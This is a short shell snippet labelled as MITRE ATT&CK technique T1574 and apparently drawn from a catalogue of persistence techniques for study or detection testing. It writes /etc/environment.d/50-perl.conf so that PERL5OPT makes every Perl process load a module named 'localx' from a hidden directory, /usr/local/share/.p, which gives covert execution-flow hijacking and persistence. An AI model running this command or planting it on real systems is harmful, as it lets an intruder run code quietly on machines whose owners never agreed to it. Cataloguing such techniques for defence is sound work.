# technique: T1574
# location: linux.systemd.environment
# source: /etc/environment.d/50-perl.conf
mkdir -p /etc/environment.d
echo 'PERL5OPT=-I/usr/local/share/.p -Mlocalx' > /etc/environment.d/50-perl.conf
